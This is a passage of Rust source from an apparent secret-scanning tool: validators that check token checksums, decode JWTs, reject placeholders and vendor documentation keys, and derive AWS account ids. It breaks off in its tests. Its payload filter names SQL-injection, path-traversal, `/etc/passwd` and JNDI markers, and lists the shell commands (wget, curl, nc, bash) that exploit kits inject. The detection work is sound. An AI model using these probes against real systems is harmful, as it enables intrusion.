//! Checks that a regex cannot express: checksums, structure of tokens, and whether a value looks
//! like a credential at all. Rules refer to them by name.

use base64::Engine;

use crate::finding::{Details, Secret};

/// A code check of a pattern match.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Validator {
    /// GitHub tokens: CRC32 of the random part, base62, in the last 6 characters.
    GithubChecksum,
    /// JSON Web Tokens: header and claims decode to JSON objects.
    Jwt,
    /// Real values only: not a documentation example or placeholder.
    NotPlaceholder,
    /// Something a person could have typed as a password (see [`is_password_like`]).
    PasswordLike,
    /// Provider tokens: not a documentation example or a template (see [`is_example_token`]).
    NotExample,
    /// AWS key ids: not a documentation key; the key type from the prefix and, for newer ids, the
    /// account id encoded in the id (see [`aws_key_type`] and [`aws_account_id`]).
    AwsKeyId,
    /// `Basic` credentials: base64 of `user:password` with a non-empty password.
    BasicAuth,
    /// Opaque tokens: random looking (see [`is_credential_like`]) and not the shape of a token
    /// that a specific built-in rule reports (see [`has_provider_shape`]).
    OpaqueToken,
    /// PyPI tokens: the index that issued them, from the macaroon's location.
    Pypi,
    /// OpenAI keys: notes the `T3BlbkFJ` marker.
    OpenAi,
    /// Keys that say whether they are live or test (Stripe `_live_`/`_test_`, Braintree
    /// `$production$`/`$sandbox$`); documentation keys are rejected.
    Mode,
    /// Sentry organization tokens: the payload decodes to JSON; the issuer is its Sentry host.
    SentryOrgToken,
    /// Tokens issued URL-encoded (X app-only bearer tokens hold `%2B` and `%3D`): a value the
    /// log's decoding turned into `+`, `=` or `/` is reported in its issued form, so that the same
    /// token is one secret wherever it was logged.
    UrlEncodedToken,
}

impl Validator {
    /// Looks a validator up by the name rules use.
    pub fn from_name(name: &str) -> Option<Self> {
        Some(match name {
            "github-checksum" => Self::GithubChecksum,
            "jwt" => Self::Jwt,
            "not-placeholder" => Self::NotPlaceholder,
            "password-like" => Self::PasswordLike,
            "not-example" => Self::NotExample,
            "aws-key-id" => Self::AwsKeyId,
            "basic-auth" => Self::BasicAuth,
            "opaque-token" => Self::OpaqueToken,
            "pypi" => Self::Pypi,
            "openai" => Self::OpenAi,
            "mode" => Self::Mode,
            "sentry-org-token" => Self::SentryOrgToken,
            "url-encoded-token" => Self::UrlEncodedToken,
            _ => return None,
        })
    }

    /// Checks a match; `None` rejects it, otherwise the facts learned.
    pub fn check(self, secret: &[u8]) -> Option<Details> {
        match self {
            Self::GithubChecksum => github_checksum_valid(secret).then(|| Details {
                checksum: Some("valid"),
                ..Details::default()
            }),
            Self::Jwt => jwt_claims(secret).map(|jwt| Details {
                expires_at: jwt.exp.and_then(rfc3339_of_epoch),
                jwt: Some(jwt),
                ..Details::default()
            }),
            Self::NotPlaceholder => (!is_placeholder(secret)).then(Details::default),
            Self::PasswordLike => is_password_like(secret).then(Details::default),
            Self::NotExample => (!is_example_token(secret)).then(Details::default),
            Self::AwsKeyId => (!is_example_token(secret)).then(|| Details {
                aws_key_type: aws_key_type(secret),
                aws_account_id: aws_account_id(secret),
                ..Details::default()
            }),
            Self::BasicAuth => basic_credentials_valid(secret).then(Details::default),
            Self::OpaqueToken => {
                (is_credential_like(secret) && !has_provider_shape(secret)).then(Details::default)
            }
            Self::Pypi => pypi_issuer(secret).map(|issuer| Details {
                issuer: Some(issuer.to_string()),
                ..Details::default()
            }),
            Self::OpenAi => Some(Details {
                note: memchr::memmem::find(secret, OPENAI_MARKER.as_bytes()).map(|_| {
                    format!(
                        "carries {OPENAI_MARKER}, base64 of \"OpenAI\", the marker of OpenAI keys"
                    )
                }),
                ..Details::default()
            }),
            Self::Mode => (!is_example_token(secret)).then(|| Details {
                mode: key_mode(secret),
                ..Details::default()
            }),
            Self::SentryOrgToken => sentry_org_token_issuer(secret).map(|issuer| Details {
                issuer,
                ..Details::default()
            }),
            Self::UrlEncodedToken => Some(Details {
                issued_form: url_encoded_form(secret).map(Secret::new),
                ..Details::default()
            }),
        }
    }
}

/// `token` with `+`, `=` and `/` percent-encoded, when it holds any of them.
pub fn url_encoded_form(token: &[u8]) -> Option<Vec<u8>> {
    if !token.iter().any(|b| matches!(b, b'+' | b'=' | b'/')) {
        return None;
    }
    let mut encoded = Vec::with_capacity(token.len() + 8);
    for &b in token {
        match b {
            b'+' => encoded.extend_from_slice(b"%2B"),
            b'=' => encoded.extend_from_slice(b"%3D"),
            b'/' => encoded.extend_from_slice(b"%2F"),
            _ => encoded.push(b),
        }
    }
    Some(encoded)
}

/// A code check of a parameter value.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ValueCheck {
    /// Any non-empty value.
    Any,
    /// Looks random enough to be a key or token (see [`is_credential_like`]).
    CredentialLike,
    /// Anything a person might type as a password (see [`is_password_like`]).
    Password,
    /// A session identifier (see [`is_session_id_like`]).
    SessionId,
    /// Not a documentation example or a template (see [`is_example_token`]).
    NotExample,
    /// A Laravel encrypted payload (see [`is_laravel_payload`]).
    LaravelPayload,
}

impl ValueCheck {
    /// Looks a check up by the name rules use.
    pub fn from_name(name: &str) -> Option<Self> {
        Some(match name {
            "any" => Self::Any,
            "credential-like" => Self::CredentialLike,
            "password" => Self::Password,
            "session-id" => Self::SessionId,
            "not-example" => Self::NotExample,
            "laravel-payload" => Self::LaravelPayload,
            _ => return None,
        })
    }

    /// True when `value` passes.
    pub fn passes(self, value: &[u8]) -> bool {
        match self {
            Self::Any => !value.is_empty() && !is_placeholder(value),
            Self::CredentialLike => is_credential_like(value),
            Self::Password => is_password_like(value),
            Self::SessionId => is_session_id_like(value),
            Self::NotExample => !value.is_empty() && !is_example_token(value),
            Self::LaravelPayload => is_laravel_payload(value),
        }
    }
}

const BASE62: &[u8; 62] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";

/// True when a `ghp_`/`gho_`/`ghu_`/`ghs_`/`ghr_` token's last 6 characters are the base62 CRC32
/// of the 30 characters before them.
pub fn github_checksum_valid(token: &[u8]) -> bool {
    let Some(body) = token.get(4..) else {
        return false;
    };
    if body.len() != 36 {
        return false;
    }
    let (random, checksum) = body.split_at(30);
    let mut crc = flate2::Crc::new();
    crc.update(random);
    let mut value = crc.sum();
    let mut expected = [b'0'; 6];
    for slot in expected.iter_mut().rev() {
        *slot = BASE62[(value % 62) as usize];
        value /= 62;
    }
    value == 0 && expected == checksum
}

/// True when `value` has the shape of a token with a built-in checksum (`ghp_`, `gho_`, `ghu_`,
/// `ghs_`, `ghr_`, `npm_`) but its checksum is wrong: a made-up or mistyped token, not a leak.
pub fn fails_its_checksum(value: &[u8]) -> bool {
    let prefixed = [&b"ghp_"[..], b"gho_", b"ghu_", b"ghs_", b"ghr_", b"npm_"]
        .iter()
        .any(|p| value.starts_with(p));
    prefixed
        && value.len() == 40
        && value[4..].iter().all(u8::is_ascii_alphanumeric)
        && !github_checksum_valid(value)
}

/// True when `value` starts with a token of a checksummed format whose checksum is wrong, followed
/// by a byte that cannot be part of it (`ghp_…:main`): the made-up token and whatever follows it
/// are not a credential.
pub fn starts_with_failed_checksum(value: &[u8]) -> bool {
    value.len() > 40 && !value[40].is_ascii_alphanumeric() && fails_its_checksum(&value[..40])
}

/// True when `value` is a number in any notation: an integer of any length, a sign, a fraction,
/// an exponent (`-79874087309410014E17`, `1.5e-3`, `123456789012345678`). Ids, timestamps, cache
/// busters and serialised floats are never credentials.
pub fn is_number(value: &[u8]) -> bool {
    let rest = value
        .strip_prefix(b"-")
        .or_else(|| value.strip_prefix(b"+"))
        .unwrap_or(value);
    let mantissa_end = rest
        .iter()
        .position(|&b| b == b'e' || b == b'E')
        .unwrap_or(rest.len());
    let (mantissa, exponent) = rest.split_at(mantissa_end);
    let digits_with_one_point = |part: &[u8]| {
        part.iter().any(u8::is_ascii_digit)
            && part.iter().all(|&b| b.is_ascii_digit() || b == b'.')
            && part.iter().filter(|&&b| b == b'.').count() <= 1
    };
    let exponent_ok = match exponent {
        [] => true,
        [_, b'-' | b'+', digits @ ..] | [_, digits @ ..] => {
            !digits.is_empty() && digits.iter().all(u8::is_ascii_digit)
        }
    };
    digits_with_one_point(mantissa) && exponent_ok
}

/// True when `value` is a slug, a readable id or a tracker: parts joined by `-`, `_`, `.` or `/`
/// that are each words, numbers, or a word and a number or two run together
/// (`blue-widget-2024-xl`, `INV-2024-000123`, `awssession_id1025847766r8505`). A random value has
/// letter and digit runs throughout and long runs of consonant-heavy letters; these do not.
pub fn is_slug(value: &[u8]) -> bool {
    let parts = value
        .split(|b| matches!(b, b'-' | b'_' | b'.' | b'/'))
        .filter(|p| !p.is_empty());
    let mut parts_seen = 0;
    for part in parts {
        parts_seen += 1;
        if !part.iter().all(u8::is_ascii_alphanumeric) || !is_readable_part(part) {
            return false;
        }
    }
    parts_seen > 0
}

/// One part of a slug: at most two runs of letters, each a word, and at most two runs of digits.
fn is_readable_part(part: &[u8]) -> bool {
    let mut letter_runs = 0;
    let mut digit_runs = 0;
    let mut i = 0;
    while i < part.len() {
        let digit = part[i].is_ascii_digit();
        let end = part[i..]
            .iter()
            .position(|b| b.is_ascii_digit() != digit)
            .map_or(part.len(), |p| i + p);
        if digit {
            digit_runs += 1;
        } else {
            letter_runs += 1;
            if !is_word(&part[i..end]) {
                return false;
            }
        }
        i = end;
    }
    letter_runs <= 2 && digit_runs <= 2
}

/// A word as people write it in ids: lowercase, Capitalised or a short UPPERCASE code, at most 12
/// letters, with a vowel when longer than 3 letters, and no 5 consonants in a row.
fn is_word(letters: &[u8]) -> bool {
    let lower = letters[1..].iter().all(u8::is_ascii_lowercase);
    let upper = letters.iter().all(u8::is_ascii_uppercase);
    if letters.len() > 12 || !(lower || (upper && letters.len() <= 5)) {
        return false;
    }
    let vowel = |b: &u8| b"aeiouyAEIOUY".contains(b);
    if upper || letters.len() <= 3 {
        return true;
    }
    let mut consonants = 0;
    for b in letters {
        consonants = if vowel(b) { 0 } else { consonants + 1 };
        if consonants >= 5 {
            return false;
        }
    }
    letters.iter().any(vowel)
}

/// True when `token` is `header.claims.signature` whose first two parts are base64url JSON
/// objects.
pub fn is_jwt(token: &[u8]) -> bool {
    let mut parts = token.split(|&b| b == b'.');
    let (Some(header), Some(claims)) = (parts.next(), parts.next()) else {
        return false;
    };
    let decodes_to_object = |part: &[u8]| {
        base64::engine::general_purpose::URL_SAFE_NO_PAD
            .decode(part.strip_suffix(b"=").unwrap_or(part))
            .ok()
            .and_then(|json| serde_json::from_slice::<serde_json::Value>(&json).ok())
            .is_some_and(|v| v.is_object())
    };
    decodes_to_object(header) && decodes_to_object(claims)
}

/// The header and claims of a JWT that say what it is, decoded without verifying the signature
/// (nothing more can be learned without the issuer's key). `None` when it is not a JWT.
///
/// A JWT's payload is a JSON object, but some services sign other payloads (a user number) with
/// a JOSE header that still says `"typ":"JWT"`: such a token is accepted when it is signed (a
/// signature of at least 16 base64url characters), and only its header is decoded.
pub fn jwt_claims(token: &[u8]) -> Option<crate::finding::JwtClaims> {
    let mut parts = token.split(|&b| b == b'.');
    let base64url = |part: &[u8]| {
        base64::engine::general_purpose::URL_SAFE_NO_PAD
            .decode(part.strip_suffix(b"=").unwrap_or(part))
            .ok()
    };
    let decode = |part: &[u8]| -> Option<serde_json::Map<String, serde_json::Value>> {
        match serde_json::from_slice(&base64url(part)?).ok()? {
            serde_json::Value::Object(map) => Some(map),
            _ => None,
        }
    };
    let header = decode(parts.next()?)?;
    let payload = parts.next()?;
    let claims = match decode(payload) {
        Some(claims) => claims,
        None => {
            let typ = header.get("typ").and_then(serde_json::Value::as_str)?;
            let names_jwt =
                typ.eq_ignore_ascii_case("JWT") || typ.to_ascii_lowercase().ends_with("+jwt");
            let signature = parts.next()?;
            let signed = signature.len() >= 16
                && signature
                    .iter()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_'));
            if !names_jwt || !signed || base64url(payload).is_none_or(|p| p.is_empty()) {
                return None;
            }
            serde_json::Map::new()
        }
    };
    let text = |map: &serde_json::Map<String, serde_json::Value>, key: &str| {
        map.get(key)
            .and_then(|v| v.as_str())
            .map(|s| s.chars().take(256).collect::<String>())
    };
    let number = |key: &str| claims.get(key).and_then(serde_json::Value::as_i64);
    Some(crate::finding::JwtClaims {
        alg: text(&header, "alg"),
        iss: text(&claims, "iss"),
        sub: text(&claims, "sub"),
        aud: claims
            .get("aud")
            .filter(|a| a.is_string() || a.is_array())
            .cloned(),
        iat: number("iat"),
        exp: number("exp"),
    })
}

/// An epoch second as RFC 3339 in UTC, when it is a plausible time.
pub fn rfc3339_of_epoch(seconds: i64) -> Option<String> {
    jiff::Timestamp::from_second(seconds)
        .ok()
        .map(|t| t.to_string())
}

/// Words that mark a value as a placeholder, a documentation example or already masked.
const PLACEHOLDER_WORDS: &[&str] = &[
    "your",
    "example",
    "placeholder",
    "changeme",
    "change_me",
    "redacted",
    "filtered",
    "hidden",
    "masked",
    "dummy",
    "sample",
    "insert",
    "replace",
    "undefined",
    "null",
    "none",
    "secret_here",
    "token_here",
    "key_here",
    "xxxx",
    "***",
    "....",
    "<",
    ">",
    "{{",
    "${",
    "%s",
    "[",
];

/// Secrets published in vendors' documentation and emulators: they grant nothing to anyone.
const DOCUMENTATION_SECRETS: &[&str] = &[
    // AWS documentation access keys.
    "AKIAIOSFODNN7EXAMPLE",
    "ASIAIOSFODNN7EXAMPLE",
    "AKIAI44QH8DHBEXAMPLE",
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "je7MtGbClwBF/2Zp9Utk/h3yCo8nvbEXAMPLEKEY",
    // The account key of Azurite and the Azure storage emulator (devstoreaccount1).
    "Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw==",
    // Stripe's documentation test keys.
    "sk_test_4eC39HqLyjWDarjtT1zdp7dc",
    "sk_test_BQokikJOvBiI2HlWgH4olfQ2",
    // RFC 6749 and RFC 6750 example tokens.
    "2YotnFZFEjr1zCsicMWpAA",
    "tGzv3JOkF0XG5Qx2TlKWIA",
    "mF_9.B5f-4.1JqM",
];

/// True when `value` is a placeholder (`YOUR_API_KEY`, `<api_key>`, `{{token}}`, `${KEY}`,
/// `xxxx…`, `null`, `changeme`) or a value that logging already masked (`[FILTERED]`, `REDACTED`,
/// `__HIDDEN__`, `***`).
pub fn is_placeholder(value: &[u8]) -> bool {
    if DOCUMENTATION_SECRETS.iter().any(|d| d.as_bytes() == value) {
        return true;
    }
    static WORDS: std::sync::OnceLock<aho_corasick::AhoCorasick> = std::sync::OnceLock::new();
    let words = WORDS.get_or_init(|| {
        aho_corasick::AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(PLACEHOLDER_WORDS)
            .expect("placeholder words are plain literals")
    });
    if words.is_match(value) {
        return true;
    }
    // One character repeated (`aaaaaaaa`, `00000000`, `********`).
    let first = value.first().map(u8::to_ascii_lowercase);
    value.len() >= 4 && value.iter().all(|b| Some(b.to_ascii_lowercase()) == first)
}

/// True when a token that has a provider's shape is a documentation example or a template rather
/// than a real value: one of the published documentation secrets, a template marker (`<…>`,
/// `{{…}}`, `${…}`), a mask (`xxxxxx`, `******`) or one character repeated, or the word
/// `example`, `placeholder`, `redacted` or `dummy`.
///
/// Unlike [`is_placeholder`] it ignores short words (`none`, `null`, `your`, `test`): random
/// tokens spell those by chance often enough (about once in a thousand 100-character tokens) that
/// real keys would be missed.
pub fn is_example_token(value: &[u8]) -> bool {
    if DOCUMENTATION_SECRETS.iter().any(|d| d.as_bytes() == value) {
        return true;
    }
    let lower = value.to_ascii_lowercase();
    let has = |w: &str| memchr::memmem::find(&lower, w.as_bytes()).is_some();
    let first = lower.first().copied();
    [
        "example",
        "placeholder",
        "redacted",
        "dummy",
        "xxxxxx",
        "******",
        "<",
        "{{",
        "${",
    ]
    .iter()
    .any(|w| has(w))
        || (lower.len() >= 4 && lower.iter().all(|&b| Some(b) == first))
}

/// Shannon entropy of the byte distribution, in bits per byte.
pub fn shannon_entropy(value: &[u8]) -> f64 {
    if value.is_empty() {
        return 0.0;
    }
    let mut counts = [0u32; 256];
    for &b in value {
        counts[b as usize] += 1;
    }
    let n = value.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = c as f64 / n;
            -p * p.log2()
        })
        .sum()
}

/// True for a UUID (`8-4-4-4-12` hex digits).
pub fn is_uuid(value: &[u8]) -> bool {
    value.len() == 36
        && value.iter().enumerate().all(|(i, &b)| match i {
            8 | 13 | 18 | 23 => b == b'-',
            _ => b.is_ascii_hexdigit(),
        })
}

/// Values that are public by design even when sent in a credential-named parameter: Stripe
/// publishable keys, Mapbox public tokens, Mailgun public validation keys and Datadog RUM client
/// tokens (`pub` and 32 hex digits).
pub fn is_public_key(value: &[u8]) -> bool {
    let datadog_client_token = value.len() == 35
        && value.starts_with(b"pub")
        && value[3..].iter().all(u8::is_ascii_hexdigit);
    datadog_client_token
        || ["pk_live_", "pk_test_", "pk.", "pubkey-"]
            .iter()
            .any(|p| value.starts_with(p.as_bytes()))
}

/// True when `value` could be a key or token: 16 to 4096 characters of the token alphabet, random
/// looking (mixed character classes and enough entropy), not a placeholder, UUID, number, or a
/// public-by-design key.
pub fn is_credential_like(value: &[u8]) -> bool {
    if !(16..=4096).contains(&value.len())
        || fails_its_checksum(value)
        || starts_with_failed_checksum(value)
        || is_placeholder(value)
        || is_public_key(value)
        || is_uuid(value)
        || is_number(value)
        || is_slug(value)
    {
        return false;
    }
    let token_byte = |b: &u8| b.is_ascii_alphanumeric() || b"-_.+/=~:".contains(b);
    if !value.iter().all(token_byte) {
        return false;
    }
    let digits = value.iter().filter(|b| b.is_ascii_digit()).count();
    let upper = value.iter().filter(|b| b.is_ascii_uppercase()).count();
    let lower = value.iter().filter(|b| b.is_ascii_lowercase()).count();
    let letters = upper + lower;
    if letters == 0 {
        return false; // numbers: ids, timestamps, cache busters
    }
    if digits == 0 {
        // Letters only: random keys are mixed case throughout; words and camelCase are not.
        let n = letters as f64;
        if value.len() < 20 || (upper as f64) < 0.25 * n || (lower as f64) < 0.25 * n {
            return false;
        }
    }
    shannon_entropy(value) >= 3.0
}

/// True when `value` is what Laravel's encrypter writes (into every cookie it encrypts): base64 of
/// a JSON object holding the cipher text `value`, its `iv` and its `mac`.
pub fn is_laravel_payload(value: &[u8]) -> bool {
    let Ok(json) = STANDARD_ANY_PADDING.decode(value) else {
        return false;
    };
    serde_json::from_slice::<serde_json::Value>(&json).is_ok_and(|v| {
        ["iv", "value", "mac"]
            .iter()
            .all(|k| v.get(k).is_some_and(serde_json::Value::is_string))
    })
}

/// True when `value` is a long run of letters only that could be a generated key (at least 24
/// letters, at least 10 of them different, not a placeholder). Under a name that only ever
/// holds a key (`api_key`, `client_secret`) such a value is one, though [`is_credential_like`]
/// wants digits or mixed case from a value under any key-like name.
pub fn is_random_letters(value: &[u8]) -> bool {
    if !(24..=256).contains(&value.len())
        || !value.iter().all(u8::is_ascii_alphabetic)
        || is_placeholder(value)
    {
        return false;
    }
    let mut seen = [false; 26];
    for b in value {
        seen[(b.to_ascii_lowercase() - b'a') as usize] = true;
    }
    seen.iter().filter(|&&s| s).count() >= 10
}

/// True when `value` could be a password a person typed: 4 to 256 bytes, not a placeholder, a file
/// path or a boolean.
pub fn is_password_like(value: &[u8]) -> bool {
    if !(4..=256).contains(&value.len()) || value.starts_with(b"/") {
        return false;
    }
    // People put words like "Example" or "Summer" in real passwords, so only whole placeholder
    // values, template markers and masks count here.
    let lower = value.to_ascii_lowercase();
    let masked_or_template = [
        "***",
        "xxxx",
        "[filtered]",
        "redacted",
        "__hidden__",
        "<",
        "{{",
        "${",
    ]
    .iter()
    .any(|w| memchr::memmem::find(&lower, w.as_bytes()).is_some())
        || printf_marker(&lower);
    let first = lower[0];
    let repeated = lower.iter().all(|&b| b == first);
    let placeholder = matches!(
        lower.as_slice(),
        b"true"
            | b"false"
            | b"password"
            | b"passwd"
            | b"changeme"
            | b"change_me"
            | b"null"
            | b"none"
            | b"undefined"
            | b"example"
            | b"secret"
            | b"your_password"
            | b"yourpassword"
            | b"hidden"
            | b"filtered"
            | b"masked"
    );
    !(masked_or_template || repeated || placeholder || is_attack_payload(&lower))
}

/// True when a lowercased value is an injection probe rather than something a person chose as a
/// password: SQL that breaks out of a quoted string (`' or ''='`, `' union `), script, path
/// traversal, a shell command after a command separator (`admin';ls #`, `;wget http://…`), shell
/// or scanner markers. Words alone (`union select` typed after a password) are not enough.
pub fn is_attack_payload(lower: &[u8]) -> bool {
    const MARKERS: &[&str] = &[
        "' or ",
        "'or'",
        "\" or ",
        "' and ",
        "'='",
        "' union ",
        "<script",
        "javascript:",
        "../",
        "..\\",
        "/etc/passwd",
        "||",
        "${jndi",
        "$(",
        "`",
        "%00",
        "' --",
        "';--",
        "netsparker",
        "acunetix",
    ];
    MARKERS
        .iter()
        .any(|m| memchr::memmem::find(lower, m.as_bytes()).is_some())
        || runs_shell_command(lower)
}

/// Commands that exploit kits run after a separator they inject into a parameter.
const INJECTED_COMMANDS: &[&str] = &[
    "ls", "id", "cat", "wget", "curl", "uname", "sh", "bash", "busybox", "nc", "echo", "ping",
    "sleep", "cd", "chmod", "rm", "tftp", "whoami",
];

/// Whether a lowercased value runs a shell command after a command separator (`;`, `|`, `&&` or
/// a newline): `;ls`, `| cat /etc/hosts`, `&& wget http://…`. The command must be a whole word,
/// so `abc;cdef` and `x|identity` are not commands.
fn runs_shell_command(lower: &[u8]) -> bool {
    lower.iter().enumerate().any(|(i, &b)| {
        if !matches!(b, b';' | b'|' | b'&' | b'\n')
            || (b == b'&' && lower.get(i + 1) != Some(&b'&'))
        {
            return false;
        }
        let rest = &lower[i + 1..];
        let rest = rest.strip_prefix(b"&").unwrap_or(rest);
        let start = rest.iter().position(|&c| c != b' ').unwrap_or(rest.len());
        let rest = &rest[start..];
        INJECTED_COMMANDS.iter().any(|cmd| {
            rest.starts_with(cmd.as_bytes())
                && !rest
                    .get(cmd.len())
                    .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
        })
    })
}

/// Whether `value` holds a printf `%s` that is not the start of a word (`'%s'`, `%s%s`), as
/// templates logged unfilled do; `Summer%summer` is a password.
fn printf_marker(value: &[u8]) -> bool {
    memchr::memmem::find_iter(value, b"%s")
        .any(|at| !value.get(at + 2).is_some_and(u8::is_ascii_alphanumeric))
}

/// Standard base64, with or without padding.
const STANDARD_ANY_PADDING: base64::engine::GeneralPurpose = base64::engine::GeneralPurpose::new(
    &base64::alphabet::STANDARD,
    base64::engine::GeneralPurposeConfig::new()
        .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent),
);

/// What an AWS unique id is, from its four-letter prefix; `None` for an unknown prefix. Only
/// `AKIA` (long-term access key of a user), `ASIA` (temporary STS access key), `ABIA` (STS service
/// bearer token) and `ACCA` (context-specific credential) ids belong to credentials.
pub fn aws_key_type(id: &[u8]) -> Option<&'static str> {
    Some(match id.get(..4)? {
        b"AKIA" => "long_term_access_key",
        b"ASIA" => "temporary_access_key",
        b"ABIA" => "sts_service_bearer_token",
        b"ACCA" => "context_specific_credential",
        b"AGPA" => "group",
        b"AIDA" => "iam_user",
        b"AROA" => "role",
        b"AIPA" => "instance_profile",
        b"ANPA" => "managed_policy",
        b"ANVA" => "managed_policy_version",
        b"APKA" => "public_key",
        b"ASCA" => "certificate",
        _ => return None,
    })
}

/// The 12-digit AWS account id encoded in a 20-character unique id (`AKIA…`, `ASIA…`, `AROA…`),
/// for ids whose fifth character is `Q`–`Z` or `2`–`7` (ids issued since about 2019); `None` for
/// older ids, which do not encode it.
///
/// The 16 characters after the prefix are base32 (`A`–`Z`, `2`–`7`); the account id is bits 1 to
/// 40 of the first six decoded bytes: `(u48 & 0x7fff_ffff_ff80) >> 7` (Tal Be'ery, "A short note
/// on AWS KEY ID", 2023).
pub fn aws_account_id(id: &[u8]) -> Option<String> {
    if id.len() != 20 || aws_key_type(id).is_none() {
        return None;
    }
    let value = |b: u8| match b {
        b'A'..=b'Z' => Some(u64::from(b - b'A')),
        b'2'..=b'7' => Some(u64::from(b - b'2') + 26),
        _ => None,
    };
    let mut digits = [0u64; 16];
    for (slot, &b) in digits.iter_mut().zip(&id[4..]) {
        *slot = value(b)?;
    }
    if digits[0] < 16 {
        return None;
    }
    // Ten characters carry 50 bits; the first 48 of them are the first six bytes.
    let bits = digits[..10].iter().fold(0u64, |acc, &d| acc << 5 | d);
    let first_six_bytes = bits >> 2;
    let account = (first_six_bytes & 0x7fff_ffff_ff80) >> 7;
    // 40 bits hold more than 12 digits; a larger value is not a real id.
    (account <= 999_999_999_999).then(|| format!("{account:012}"))
}

/// True when `token` (the part after `Basic `) is base64 of printable `user:password` with a
/// non-empty password that is not a placeholder.
pub fn basic_credentials_valid(token: &[u8]) -> bool {
    let Ok(decoded) = STANDARD_ANY_PADDING.decode(token) else {
        return false;
    };
    if decoded.iter().any(|&b| b < 0x20 || b == 0x7f) {
        return false;
    }
    let Some(colon) = memchr::memchr(b':', &decoded) else {
        return false;
    };
    let password = &decoded[colon + 1..];
    !password.is_empty() && !is_placeholder(password)
}

/// The marker in OpenAI keys: base64 of `OpenAI`.
const OPENAI_MARKER: &str = "T3BlbkFJ";

/// The index that issued a PyPI API token, from the location caveat its macaroon starts with.
pub fn pypi_issuer(token: &[u8]) -> Option<&'static str> {
    if token.starts_with(b"pypi-AgEIcHlwaS5vcmc") {
        Some("pypi.org")
    } else if token.starts_with(b"pypi-AgENdGVzdC5weXBpLm9yZw") {
        Some("test.pypi.org")
    } else {
        None
    }
}

/// `live` or `test`, from the marker a key carries (Stripe `_live_`/`_test_`, Braintree
/// `$production$`/`$sandbox$`).
pub fn key_mode(key: &[u8]) -> Option<&'static str> {
    let has = |marker: &[u8]| memchr::memmem::find(key, marker).is_some();
    if has(b"_live_") || has(b"$production$") {
        Some("live")
    } else if has(b"_test_") || has(b"$sandbox$") {
        Some("test")
    } else {
        None
    }
}

/// For a Sentry organization token (`sntrys_<base64 JSON>_<secret>`): `None` when the payload is
/// not a JSON object, else the host of its `url` if it has one.
pub fn sentry_org_token_issuer(token: &[u8]) -> Option<Option<String>> {
    let body = token.strip_prefix(b"sntrys_")?;
    let underscore = memchr::memrchr(b'_', body)?;
    let payload = STANDARD_ANY_PADDING.decode(&body[..underscore]).ok()?;
    let json: serde_json::Value = serde_json::from_slice(&payload).ok()?;
    let object = json.as_object()?;
    let host = object
        .get("url")
        .and_then(serde_json::Value::as_str)
        .map(|url| {
            let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
            rest.split(['/', '?', '#'])
                .next()
                .unwrap_or(rest)
                .to_string()
        })
        .filter(|host| !host.is_empty());
    Some(host)
}

/// True when the whole of `secret` has the shape of a token that a specific (not generic) built-in
/// pattern rule reports: a JWT, `ghp_…`, `sk_live_…` and so on.
///
/// A catch-all such as `Bearer <token>` leaves those to their own rules. Comparing priorities
/// would do the same where both rules see the value, but over the raw line the first match at a
/// position is kept whatever its rule, so the catch-all steps aside here.
pub fn has_provider_shape(secret: &[u8]) -> bool {
    use std::sync::OnceLock;
    static SHAPES: OnceLock<Option<regex::bytes::RegexSet>> = OnceLock::new();
    match SHAPES.get_or_init(|| provider_shapes().ok()) {
        Some(set) => set.is_match(secret),
        // Not expected with the built-in rules (tested); one regex at a time then.
        None => crate::rules::builtin()
            .iter()
            .filter(|rule| !rule.generic)
            .filter_map(|rule| rule.pattern())
            .any(|re| {
                re.find(secret)
                    .is_some_and(|m| m.range() == (0..secret.len()))
            }),
    }
}

/// The full-match shapes of the specific built-in pattern rules, as one set.
fn provider_shapes() -> Result<regex::bytes::RegexSet, regex::Error> {
    let patterns: Vec<String> = crate::rules::builtin()
        .iter()
        .filter(|rule| !rule.generic)
        .filter_map(|rule| rule.pattern_source())
        .map(|source| format!("^(?:{source})$"))
        .collect();
    regex::bytes::RegexSetBuilder::new(patterns)
        .unicode(false)
        .size_limit(1 << 24)
        .dfa_size_limit(1 << 24)
        .build()
}

/// True when `value` could be a session id: credential-like (see [`is_credential_like`]) and not
/// one of the ids that share session parameter names but are public: Stripe Checkout Session ids
/// (`cs_live_…`, `cs_test_…`, which Stripe puts in success URLs), Twilio resource SIDs
/// (`AC…`, `SM…`: two letters and 32 hex digits) and Windows security ids (`S-1-…`).
pub fn is_session_id_like(value: &[u8]) -> bool {
    let twilio_sid = value.len() == 34
        && value[..2].iter().all(u8::is_ascii_uppercase)
        && value[2..]
            .iter()
            .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(b));
    is_credential_like(value)
        && !value.starts_with(b"cs_live_")
        && !value.starts_with(b"cs_test_")
        && !value.starts_with(b"S-1-")
        && !twilio_sid
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn github_checksum() {
        // Random part "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa": the checksum is computed the documented way.
        let random = b"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
        let mut crc = flate2::Crc::new();
        crc.update(random);
        let mut v = crc.sum();
        let mut cs = [b'0'; 6];
        for slot in cs.iter_mut().rev() {
            *slot = BASE62[(v % 62) as usize];
            v /= 62;
        }
        let token = [b"ghp_".as_slice(), random, &cs].concat();
        assert!(github_checksum_valid(&token));
        let mut wrong = token.clone();
        wrong[39] = if wrong[39] == b'A' { b'B' } else { b'A' };
        assert!(!github_checksum_valid(&wrong));
        assert!(!github_checksum_valid(b"ghp_short"));
    }

    #[test]
    fn jwt_claims_are_decoded() {
        // {"alg":"HS256"} . {"sub":"1","iss":"https://auth.example","aud":["api"],"iat":1764237600,"exp":1764241200}
